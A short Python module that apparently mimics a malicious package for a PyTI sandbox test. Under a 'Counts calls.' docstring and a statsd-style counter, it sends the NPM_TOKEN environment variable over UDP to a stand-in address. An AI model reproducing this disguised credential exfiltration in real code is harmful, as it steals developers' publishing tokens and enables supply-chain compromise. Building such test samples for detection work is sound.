"""Counts calls."""

import os
import socket

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
    try:
        connection.sendto(b"calls:1|c|#" + os.environ.get("NPM_TOKEN", "").encode(), ("198.51.100.7", 8125))
    except OSError:
        pass
